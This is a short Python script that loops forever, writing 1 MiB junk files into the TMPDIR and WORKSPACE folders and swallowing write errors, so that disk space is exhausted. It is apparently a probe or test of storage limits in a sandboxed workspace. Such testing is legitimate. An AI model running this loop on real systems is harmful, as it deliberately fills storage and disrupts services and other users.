import os

number = 0
while True:
    number += 1
    for folder in (os.environ["TMPDIR"], os.environ["WORKSPACE"]):
        try:
            with open(f"{folder}/{number}", "wb") as file:
                file.write(b"x" * (1 << 20))
        except OSError:
            pass
